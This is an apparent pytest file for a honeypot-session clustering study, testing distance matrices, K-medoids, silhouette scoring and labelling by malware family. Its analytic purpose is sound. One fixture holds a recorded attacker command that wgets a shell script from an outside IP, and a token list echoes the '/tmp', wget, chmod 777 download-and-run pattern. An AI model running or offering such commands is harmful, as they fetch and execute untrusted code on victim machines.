"""Distance matrices, K-medoids, model selection, cluster labelling.

``TestMatrixPins`` pins every DLD matrix of a seed-7 reproduction byte
for byte.  ``silhouette_score`` is checked for exact equality against
``_reference_silhouette``, the per-point masking loop it replaced.
"""

from __future__ import annotations

import hashlib
import random

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis.clusterselect import cluster_with_selection, elbow_point, select_k
from repro.analysis.distance import distance_matrix
from repro.analysis.kmedoids import kmedoids, silhouette_score
from tests.dld_reference import reference_distance, reproduction_matrices
from tests.test_hierarchical import dld_like_matrices


def two_group_matrix(n_per_group: int = 6, gap: float = 1.0) -> np.ndarray:
    """Block matrix: two tight groups far apart."""
    n = 2 * n_per_group
    matrix = np.full((n, n), gap)
    for start in (0, n_per_group):
        block = slice(start, start + n_per_group)
        matrix[block, block] = 0.05
    np.fill_diagonal(matrix, 0.0)
    return matrix


def _random_token_sequences(count: int, seed: int) -> list[list[str]]:
    rng = random.Random(seed)
    vocabulary = ["cd", "/tmp", "wget", "<url>", "chmod", "777", "rm", "echo"]
    return [
        [rng.choice(vocabulary) for _ in range(rng.randrange(0, 24))]
        for _ in range(count)
    ]


class TestDistanceMatrix:
    def test_symmetric_zero_diagonal(self):
        tokens = [["a", "b"], ["a", "c"], ["x"]]
        matrix = distance_matrix(tokens)
        assert np.allclose(matrix, matrix.T)
        assert np.allclose(np.diag(matrix), 0.0)

    def test_matches_brute_force(self):
        tokens = [["a", "b"], ["a", "c"], ["a", "b"], ["x", "y", "z"]]
        matrix = distance_matrix(tokens)
        for i in range(4):
            for j in range(4):
                assert matrix[i, j] == reference_distance(tokens[i], tokens[j])

    def test_duplicates_have_zero_distance(self):
        matrix = distance_matrix([["a"], ["a"], ["b"]])
        assert matrix[0, 1] == 0.0
        assert matrix[0, 2] > 0

    def test_matrix_matches_naive_loop(self):
        tokens = _random_token_sequences(140, seed=9)
        matrix = distance_matrix(tokens)
        for i, a in enumerate(tokens):
            for j in range(i + 1, len(tokens)):
                assert matrix[i, j] == reference_distance(a, tokens[j])
        assert np.array_equal(matrix, matrix.T)
        assert not np.diag(matrix).any()

    def test_empty_input_gives_empty_matrix(self):
        assert distance_matrix([]).shape == (0, 0)

    def test_paper_scale_matrix_equals_clustering_matrix(self, dataset):
        clustering = dataset.clustering()
        assert np.array_equal(
            distance_matrix(clustering.tokens), clustering.matrix
        )


def _matrix_digests(dataset) -> dict[str, str]:
    """SHA-256 of ``matrix.tobytes()`` for each DLD matrix a reproduction
    builds over ``dataset``."""
    return {
        name: hashlib.sha256(matrix.tobytes()).hexdigest()
        for name, (_, matrix) in reproduction_matrices(dataset).items()
    }


class TestMatrixPins:
    """Every DLD matrix of a seed-7 reproduction, pinned byte for byte.

    The pins were taken from the per-pair scalar path the batched kernel
    replaced; a kernel change that moves any matrix by one ulp fails here.
    At 2e-5 the dataset has 117 file sessions, under both sample caps, so
    the clustering and the normalized ablation build the same matrix.
    """

    PINS = {
        "clustering": (
            "b47b16721f6c1a6f8e969851d94d6b0b6d42d93f4d4c74c9e111c5bfe987b5a0"
        ),
        "ablation normalized": (
            "b47b16721f6c1a6f8e969851d94d6b0b6d42d93f4d4c74c9e111c5bfe987b5a0"
        ),
        "ablation raw": (
            "64bc564593cf9ffd3f021d8051d0ba87819085b8a3877ab6f1dd1b02574d1c6a"
        ),
        "fig14": (
            "e89f221a784d40f6fe107fcf1af868483701cd9a0bf6ec5956759d79bcee9c80"
        ),
    }

    PINS_5X = {
        "clustering": (
            "49bb6b73a98a2b6b4d3fcd83d7c43b9460737f15c954792d4572db6ee6307579"
        ),
        "ablation normalized": (
            "175201d892092b4a0a20001d814a0015df164b44a363a95be24dd1def0b7f16a"
        ),
        "ablation raw": (
            "93df2a8a96b1bf73c98adb4f677355579c0517c442e904fc8384bac4f88064ed"
        ),
        "fig14": (
            "66b589c3a3d6cc6798da168251d7184da403bc1f1922f23fade1c9478f3c4010"
        ),
    }

    def test_default_scale(self, dataset):
        assert _matrix_digests(dataset) == self.PINS

    def test_five_times_density(self, dataset_5x):
        assert _matrix_digests(dataset_5x) == self.PINS_5X


class TestTokenizerVariants:
    def test_normalizing_and_raw_tokenizers_differ(self):
        from repro.analysis.distance import session_tokens
        from repro.analysis.tokenizer import DEFAULT_TOKENIZER, RAW_TOKENIZER
        from repro.honeypot.session import CommandRecord
        from tests.conftest import make_record

        session = make_record(0.0, session_id="tokenizer-variants")
        session.commands.append(
            CommandRecord(raw="wget http://203.0.113.9/x.sh", known=True)
        )
        normalized = session_tokens([session], tokenizer=DEFAULT_TOKENIZER)[0]
        raw = session_tokens([session], tokenizer=RAW_TOKENIZER)[0]
        assert "<url>" in normalized
        assert "<url>" not in raw
        assert normalized != raw


class TestKMedoids:
    def test_separates_two_groups(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        labels = result.labels
        assert len(set(labels[:6])) == 1
        assert len(set(labels[6:])) == 1
        assert labels[0] != labels[6]

    def test_inertia_decreases_with_k(self):
        matrix = two_group_matrix()
        inertia_1 = kmedoids(matrix, 1, seed=0).inertia
        inertia_2 = kmedoids(matrix, 2, seed=0).inertia
        assert inertia_2 < inertia_1

    def test_k_equals_n(self):
        matrix = two_group_matrix(3)
        result = kmedoids(matrix, 6, seed=0)
        assert result.inertia == pytest.approx(0.0)

    def test_invalid_k(self):
        matrix = two_group_matrix(2)
        with pytest.raises(ValueError):
            kmedoids(matrix, 0)
        with pytest.raises(ValueError):
            kmedoids(matrix, 10)

    def test_non_square_rejected(self):
        with pytest.raises(ValueError):
            kmedoids(np.zeros((2, 3)), 1)

    def test_members(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        sizes = sorted(len(result.members(c)) for c in range(2))
        assert sizes == [6, 6]

    def test_deterministic(self):
        matrix = two_group_matrix()
        a = kmedoids(matrix, 2, seed=3)
        b = kmedoids(matrix, 2, seed=3)
        assert np.array_equal(a.labels, b.labels)


def _reference_silhouette(matrix: np.ndarray, labels: np.ndarray) -> float:
    """The silhouette as first written: two boolean masks per point."""
    n = matrix.shape[0]
    unique = np.unique(labels)
    if unique.size < 2 or unique.size >= n:
        return 0.0
    scores = np.zeros(n)
    for i in range(n):
        own = labels[i]
        own_mask = labels == own
        own_count = int(own_mask.sum())
        if own_count <= 1:
            scores[i] = 0.0
            continue
        a = matrix[i, own_mask].sum() / (own_count - 1)
        b = np.inf
        for other in unique:
            if other == own:
                continue
            other_mask = labels == other
            b = min(b, float(matrix[i, other_mask].mean()))
        denominator = max(a, b)
        scores[i] = 0.0 if denominator == 0 else (b - a) / denominator
    return float(scores.mean())


#: Label values that are neither contiguous nor start at zero.
SPARSE_LABELS = (-4, 0, 3, 7, 8, 41)


@st.composite
def labelled_matrices(draw):
    """A tie-heavy DLD-like matrix with arbitrary (often singleton) labels."""
    matrix = draw(dld_like_matrices())
    n = matrix.shape[0]
    labels = draw(
        st.lists(st.sampled_from(SPARSE_LABELS), min_size=n, max_size=n)
    )
    return matrix, np.array(labels)


class TestSilhouetteAgainstReference:
    @given(case=labelled_matrices())
    @settings(max_examples=200, deadline=None)
    def test_dld_like_matrices(self, case):
        matrix, labels = case
        assert silhouette_score(matrix, labels) == _reference_silhouette(
            matrix, labels
        )

    def test_singletons_and_sparse_labels(self):
        matrix = two_group_matrix(4)
        matrix[3, :] = matrix[:, 3] = 0.5
        matrix[3, 3] = 0.0
        labels = np.array([7, 7, 7, -4, 41, 41, 41, 3])
        score = silhouette_score(matrix, labels)
        assert score == _reference_silhouette(matrix, labels)
        assert 0.0 < score < 1.0

    def test_every_candidate_k_on_the_seed7_matrix(self, dataset):
        clustering = dataset.clustering()
        matrix = clustering.matrix
        assert matrix.shape == (117, 117)
        selection = clustering.selection
        for k, silhouette in zip(selection.candidates, selection.silhouettes):
            labels = kmedoids(matrix, k, seed=dataset.config.seed).labels
            assert silhouette == _reference_silhouette(matrix, labels)


class TestSilhouette:
    def test_high_for_separated_groups(self):
        matrix = two_group_matrix()
        result = kmedoids(matrix, 2, seed=0)
        assert silhouette_score(matrix, result.labels) > 0.8

    def test_single_cluster_zero(self):
        matrix = two_group_matrix()
        assert silhouette_score(matrix, np.zeros(12, dtype=int)) == 0.0

    def test_bad_clustering_scores_lower(self):
        matrix = two_group_matrix()
        good = kmedoids(matrix, 2, seed=0).labels
        bad = np.array([0, 1] * 6)
        assert silhouette_score(matrix, bad) < silhouette_score(matrix, good)


class TestSelection:
    def test_elbow_point_on_knee_curve(self):
        candidates = [1, 2, 3, 4, 5, 6]
        inertias = [100, 20, 15, 12, 10, 9]  # knee at 2
        assert elbow_point(candidates, inertias) in (2, 3)

    def test_select_k_two_groups(self):
        matrix = two_group_matrix(8)
        selection = select_k(matrix, candidates=[2, 3, 4, 5], seed=0)
        assert selection.silhouette_k == 2
        assert selection.chosen_k in (2, 3)

    def test_cluster_with_selection_returns_consistent(self):
        matrix = two_group_matrix(8)
        result, selection = cluster_with_selection(matrix, seed=0)
        assert result.k == selection.chosen_k

    def test_small_matrix(self):
        matrix = two_group_matrix(2)
        selection = select_k(matrix, seed=0)
        assert 2 <= selection.chosen_k < 4

    def test_empty_sample_is_a_clustering_with_k_zero(self):
        result, selection = cluster_with_selection(np.zeros((0, 0)))
        assert selection.chosen_k == 0
        assert selection.candidates == []
        assert result.k == 0
        assert result.labels.shape == (0,)
        assert result.inertia == 0.0

    def test_k_zero_needs_an_empty_matrix(self):
        with pytest.raises(ValueError):
            kmedoids(np.zeros((0, 0)), 1)
        with pytest.raises(ValueError):
            kmedoids(np.zeros((1, 1)), 0)


class TestClusterLabelling:
    def test_profiles_ranked_by_tokens(self, dataset):
        clustering = dataset.clustering()
        avg = [p.avg_tokens for p in clustering.profiles]
        assert avg == sorted(avg)
        assert clustering.profiles[0].rank == 1

    def test_labels_contain_rank(self, dataset):
        clustering = dataset.clustering()
        for profile in clustering.profiles:
            assert profile.label.startswith(f"C-{profile.rank}")

    def test_all_sessions_assigned(self, dataset):
        clustering = dataset.clustering()
        total = sum(p.size for p in clustering.profiles)
        assert total == len(clustering.sessions)

    def test_family_labels_from_known_families(self, dataset):
        known = {
            "Mirai", "Gafgyt", "Dofloo", "CoinMiner", "XorDDoS", "Malicious",
        }
        for profile in dataset.clustering().profiles:
            assert set(profile.families) <= known

    def test_sorted_matrix_shape(self, dataset):
        from repro.analysis.clusterlabel import sorted_distance_matrix

        clustering = dataset.clustering()
        ordered = sorted_distance_matrix(
            clustering.matrix, clustering.result, clustering.profiles
        )
        assert ordered.shape == clustering.matrix.shape
